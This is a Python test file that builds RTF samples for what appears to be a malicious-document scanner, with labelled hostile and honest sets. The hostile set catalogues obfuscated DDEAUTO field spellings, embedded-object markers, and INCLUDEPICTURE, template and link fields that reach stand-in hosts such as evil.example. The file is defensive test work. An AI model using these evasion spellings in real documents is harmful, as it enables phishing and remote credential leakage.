"""RTF: hostile spellings, and what Word, WordPad, LibreOffice, Mac and old programs write."""

from tests.integrations.file_samples import docx, rtf
from tests.integrations.office_corpus.table import (
    ACTIVE,
    COMPLEX,
    DAMAGED,
    DISGUISED,
    FIELD_UNC,
    INERT,
    LINK,
    LOCAL,
    NOTHING,
    REMOTE,
    WEB,
    Honest,
    Hostile,
)


def escaped(text: str) -> str:
    """The text as RTF: each backslash and brace behind a backslash."""
    return text.replace("\\", "\\\\").replace("{", "\\{").replace("}", "\\}")


def field(instruction: str, result: str = "1") -> str:
    """A field whose instruction is RTF already."""
    return f"{{\\field{{\\*\\fldinst {instruction}}}{{\\fldrslt {result}}}}}"


def coded(text: str) -> str:
    r"""Every letter as `\'hh`."""
    return "".join(f"\\'{ord(letter):02x}" for letter in text)


def numbered(text: str, fallback: str = "?") -> str:
    r"""Every letter as `\uN`."""
    return "".join(f"\\u{ord(letter)}{fallback}" for letter in text)


_FIELDS_ACTIVE = {
    "in hexadecimal codes": coded("DDEAUTO") + " c:\\\\\\\\x",
    "in half hexadecimal codes": "DDE\\'41UTO c:\\\\\\\\x",
    "in numbers": numbered("DDEAUTO") + " c:\\\\\\\\x",
    "in numbers without fallback": "\\uc0 " + numbered("DDEAUTO ", "") + "c:\\\\\\\\x",
    "in numbers with hexadecimal fallback": numbered("DDEAUTO ", "\\'3f") + " x",
    "in numbers with two fallbacks": "\\uc2" + numbered("DDE", "ab") + " x",
    "in negative numbers": "".join(f"\\u{ord(letter) - 65536}?" for letter in "DDE") + " x",
    "nested in its place": field("QUOTE 68 68 69") + " c:\\\\\\\\x",
    "nested half": "D" + field("QUOTE DEAUTO") + " x",
    "by QUOTE with codes": "QUOTE 68 68 69 65 85 84 79",
    "by QUOTE with words": 'QUOTE "DDEAUTO" x',
    "behind a tab": "\\tab DDEAUTO x",
    "behind a line": "\\line\\par DDE x",
    "behind a hidden blank": "\\~\\-DDE x",
    "with optional hyphens": "D\\-D\\-E\\-AUTO x",
    "in formatted pieces": "{\\b D}{\\i\\fs24 D}{\\v E} x",
    "over lines of the file": "D\r\nD\r\nE x",
    "in small letters": "ddeauto x",
    "in quotes": '"DDEAUTO" x',
    "in curly quotes": "\\ldblquote DDEAUTO\\rdblquote  x",
    "around an unknown destination": "D{\\*\\madeup XX}DE x",
    "around a comment": "D{\\comment XX}DE x",
    "around a bookmark": "D{\\*\\bkmkstart XX}DE x",
    "around a zero-width letter": "D\\u8203?DE x",
    "around a zero-width symbol": "D\\zwnj DE x",
    "in two alphabets at once": "{\\upr{XX}{\\*\\ud{DDE}}} x",
    "behind a blank of two bytes": "\\'81\\'40DDEAUTO x",
    "with deleted letters": "D{\\deleted XX}DE x",
}

HOSTILE: Hostile = {f"rtf: DDE {how}": (rtf(field(how_written)), ACTIVE) for how, how_written in _FIELDS_ACTIVE.items()}
HOSTILE |= {
    "rtf: DDE in a result": (rtf(field("PAGE", field("DDEAUTO x"))), ACTIVE),
    "rtf: DDE in a field without an asterisk": (rtf("{\\field{\\fldinst DDE x}}"), ACTIVE),
    "rtf: DDE in a field that never ends": (rtf("\\fldinst DDE x"), ACTIVE),
    "rtf: DDE by the marks of Word": (rtf("\\'13DDEAUTO x\\'14y\\'15"), ACTIVE),
    "rtf: DDE in a header": (rtf("{\\header " + field("DDE x") + "}"), ACTIVE),
    "rtf: DDE in a footnote": (rtf("{\\footnote " + field("DDE x") + "}"), ACTIVE),
    "rtf: DDE in a text box": (rtf("{\\shp{\\*\\shpinst{\\shptxt " + field("DDE x") + "}}}"), ACTIVE),
    "rtf: picture field on a server": (rtf(field(f'INCLUDEPICTURE "{escaped(FIELD_UNC)}"')), REMOTE),
    "rtf: picture field on a server, single": (rtf(field('INCLUDEPICTURE "\\\\\\\\evil\\\\x"')), REMOTE),
    "rtf: picture field on a server, no quotes": (rtf(field(f"INCLUDEPICTURE {escaped(FIELD_UNC)}")), REMOTE),
    "rtf: picture field behind a switch": (rtf(field(f'INCLUDEPICTURE \\\\d"{escaped(FIELD_UNC)}"')), REMOTE),
    "rtf: picture field with slashes": (rtf(field('INCLUDEPICTURE "//evil.example/x.png"')), REMOTE),
    "rtf: picture field by file address": (rtf(field('INCLUDEPICTURE "file://evil.example/x.png"')), REMOTE),
    "rtf: picture field by a computed address": (rtf(field(f'INCLUDEPICTURE "{field("DOCPROPERTY x")}"')), REMOTE),
    "rtf: picture field with escaped letters": (rtf(field('INCLUDEPICTURE "f\\\\ile://evil/x"')), REMOTE),
    "rtf: text field from the web": (rtf(field('INCLUDETEXT "http://evil.example/x.doc"')), REMOTE),
    "rtf: text field from the web, escaped": (
        rtf(field('INCLUDETEXT "\\\\h\\\\t\\\\t\\\\p://evil.example/x"')),
        REMOTE,
    ),
    "rtf: old text field from the web": (rtf(field("INCLUDE http://evil.example/x.doc")), REMOTE),
    "rtf: old picture field on a server": (rtf(field("IMPORT //evil/x")), REMOTE),
    "rtf: link on a server": (rtf(field(f'LINK Excel.Sheet.8 "{escaped(FIELD_UNC)}" a1')), REMOTE),
    "rtf: referenced document on a server": (rtf(field("RD //evil/x")), REMOTE),
    "rtf: database on a server": (rtf(field('DATABASE \\\\c "Provider=SQLOLEDB;Data Source=evil"')), REMOTE),
    "rtf: object": (rtf("{\\object\\objemb{\\*\\objdata 0105}}"), ACTIVE),
    "rtf: object in capitals": (rtf("{\\OBJECT\\objemb}"), ACTIVE),
    "rtf: object with a new name": (rtf("{\\*\\objnewname 0105}"), ACTIVE),
    "rtf: object behind a binary part": (rtf("{\\pict\\bin3 {{{}{\\*\\objdata 01}"), ACTIVE),
    "rtf: object in a binary part": (rtf("\\bin20 {\\*\\objdata 0105}}}}}"), ACTIVE),
    "rtf: control": (rtf("{\\object\\objocx}"), ACTIVE),
    "rtf: picture of a shape on a server": (
        rtf("{\\shp{\\*\\shpinst{\\sp{\\sn pibName}{\\sv \\\\\\\\evil\\\\x.png}}}}"),
        REMOTE,
    ),
    "rtf: picture of a shape, name in codes": (
        rtf("{\\sp{\\sn " + coded("pibName") + "}{\\sv " + coded("//evil/x") + "}}"),
        REMOTE,
    ),
    "rtf: picture of a shape from the web": (rtf("{\\sp{\\sn pibName}{\\sv http://evil.example/x.png}}"), REMOTE),
    "rtf: fill of a shape on a server": (rtf("{\\sp{\\sn fillBlipName}{\\sv \\\\\\\\evil\\\\x}}"), REMOTE),
    "rtf: template in codes": (rtf("{\\*\\template " + coded("http://evil.example/x") + "}"), REMOTE),
    "rtf: template on a server": (rtf("{\\*\\template \\\\\\\\evil\\\\x.dot}"), REMOTE),
    "rtf: template in pieces": (rtf("{\\*\\template {\\b \\\\\\\\}{evil}\\\\x.dot}"), REMOTE),
    "rtf: template without an asterisk": (rtf("{\\template http://evil.example/x}"), REMOTE),
    "rtf: next file on a server": (rtf("{\\*\\nextfile \\\\\\\\evil\\\\x}"), REMOTE),
    "rtf: part of the document on a server": (rtf("{\\*\\filetbl{\\file\\fid0 \\\\\\\\evil\\\\x}}"), REMOTE),
    "rtf: data source on a server": (rtf("{\\*\\mailmerge{\\*\\mmdatasource \\\\\\\\evil\\\\x}}"), REMOTE),
    "rtf: data connection": (rtf("{\\*\\mailmerge{\\mmconnectstr Server=evil;Database=x}}"), REMOTE),
    "rtf: style sheet from the web": (rtf("{\\*\\xform http://evil.example/x.xsl}"), REMOTE),
    "rtf: binary part in a field": (rtf(field("DD\\bin2 E x")), DAMAGED),
    "rtf: nothing written in a word": (rtf("\\ob\0jdata 01"), DAMAGED),
    "rtf: too many fields": (rtf("{\\fldinst PAGE}" * 100_001), COMPLEX),
    "rtf: fields nested too deep": (rtf("{\\fldinst " * 201 + "}" * 201), COMPLEX),
    "rtf: archive behind": (rtf() + docx(), DISGUISED),
    "rtf: cut off": (rtf()[:-3], DAMAGED),
}

_PICTURE = "{\\pict\\pngblip\\picw10\\pich10 89504e470d0a1a0a}"
HONEST: Honest = {
    "rtf: plain": (rtf(), NOTHING),
    "rtf: mark of order before": (b"\xef\xbb\xbf" + rtf(), NOTHING),
    "rtf: blanks before": (b"\r\n  " + rtf(), NOTHING),
    "rtf: Ctrl-Z behind": (rtf() + b"\r\n\x1a", NOTHING),
    "rtf: of version 0": (b"{\\rtf\\ansi Policy\\par}", NOTHING),
    "rtf: WordPad": (
        b"{\\rtf1\\ansi\\ansicpg1252\\deff0\\deflang1033{\\fonttbl{\\f0\\fnil\\fcharset0 Calibri;}}\r\n"
        b"{\\*\\generator Msftedit 5.41.21.2510;}\\viewkind4\\uc1\\pard\\sa200 Policy\\par\r\n}\r\n\0",
        NOTHING,
    ),
    "rtf: TextEdit": (
        b"{\\rtf1\\ansi\\ansicpg1252\\cocoartf2761\n\\cocoatextscaling0{\\fonttbl\\f0\\fswiss\\fcharset0 Helvetica;}\n"
        b"{\\colortbl;\\red255\\green255\\blue255;}{\\*\\expandedcolortbl;;}\n\\f0\\fs24 \\cf0 Policy\\\n}",
        NOTHING,
    ),
    "rtf: LibreOffice": (
        rtf(
            "{\\stylesheet{\\s0 Normal;}{\\*\\cs15\\snext15 Link;}}{\\*\\generator LibreOffice/7.4}{\\info{\\title A}}"
        ),
        NOTHING,
    ),
    "rtf: Word with a theme": (
        rtf("{\\*\\themedata 504b0304}{\\*\\colorschememapping 3c3f}{\\*\\datastore 0105}"),
        NOTHING,
    ),
    "rtf: Cyrillic in codes": (rtf(coded("Policy") + "\\'cf\\'ee\\'eb"), NOTHING),
    "rtf: Chinese in numbers": (rtf(numbered("政策", "\\'3f")), NOTHING),
    "rtf: picture": (rtf(_PICTURE), NOTHING),
    "rtf: binary picture": (rtf("{\\pict\\wmetafile8\\bin6 {}\\{}}}"), NOTHING),
    "rtf: page number": (rtf(field("PAGE")), NOTHING),
    "rtf: table of contents": (
        rtf(field('TOC \\\\o "1-3" \\\\h \\\\z', field('HYPERLINK \\\\l "_Toc1"', "A"))),
        NOTHING,
    ),
    "rtf: bookmark in a field": (
        rtf(field("{\\*\\bkmkstart a}PAGEREF _Toc1{\\*\\bkmkend a}{\\*\\datafield 08}")),
        NOTHING,
    ),
    "rtf: link to the web": (rtf(field('HYPERLINK "https://www.gov.uk/"', "gov.uk")), NOTHING),
    "rtf: link in a formatted run": (rtf(field('{\\cs15\\ul HYPERLINK "https://www.gov.uk/" }')), NOTHING),
    "rtf: link by mail": (rtf(field('HYPERLINK "mailto:a@example.org"')), NOTHING),
    "rtf: link to a file": (rtf(field('HYPERLINK "C:\\\\\\\\Policies\\\\\\\\a.doc"')), LINK),
    "rtf: link to a share": (rtf(field(f'HYPERLINK "{escaped(FIELD_UNC)}"')), LINK),
    "rtf: link with a script": (rtf(field('HYPERLINK "javascript:alert(1)"')), INERT),
    "rtf: formula of fields": (rtf(field(f"= {field('PAGE')} + 1")), NOTHING),
    "rtf: condition of fields": (rtf(field(f"IF {field('PAGE')} = 1 a b")), NOTHING),
    "rtf: condition without a blank": (rtf(field(f"IF{field('PAGE')} = 1 a b")), NOTHING),
    "rtf: merge field": (rtf(field("MERGEFIELD Name \\\\* MERGEFORMAT")), NOTHING),
    "rtf: macro button": (rtf(field("MACROBUTTON NoMacro Click here")), NOTHING),
    "rtf: quotation": (rtf(field('QUOTE "A policy"')), NOTHING),
    "rtf: text about DDE": (rtf("DDEAUTO is a field. \\{ DDE x \\}"), NOTHING),
    "rtf: field of a bookmark": (rtf(field("DdeTable")), NOTHING),
    "rtf: picture field on the web": (rtf(field('INCLUDEPICTURE "https://www.example.org/a.png" \\\\d')), WEB),
    "rtf: picture field of a letter": (rtf(field('INCLUDEPICTURE "cid:a.png@01D8"')), LOCAL),
    "rtf: picture field on the drive": (rtf(field('INCLUDEPICTURE "C:\\\\\\\\a.png"')), LOCAL),
    "rtf: text field beside it": (rtf(field('INCLUDETEXT "chapter.doc"')), NOTHING),
    "rtf: link to a sheet on the drive": (
        rtf(field('LINK Excel.Sheet.8 "C:\\\\\\\\a.xls" "Sheet1!R1C1" \\\\a \\\\f 5')),
        LOCAL,
    ),
    "rtf: template on the drive": (rtf("{\\*\\template C:\\\\Users\\\\jane\\\\Normal.dotm}"), LOCAL),
    "rtf: template by name": (rtf("{\\*\\template Normal.dotm}"), NOTHING),
    "rtf: shape with a name": (rtf("{\\sp{\\sn pibName}{\\sv logo.png}}{\\sp{\\sn wzDescription}{\\sv //a}}"), NOTHING),
    "rtf: letter of Outlook": (
        rtf("{\\*\\htmltag64 <img src=http://example.org/a.png>}\\htmlrtf a\\htmlrtf0"),
        NOTHING,
    ),
    "rtf: comment": (rtf("{\\*\\atnid A}\\chatn{\\*\\annotation{\\*\\atnref 1} See the object.}"), NOTHING),
}
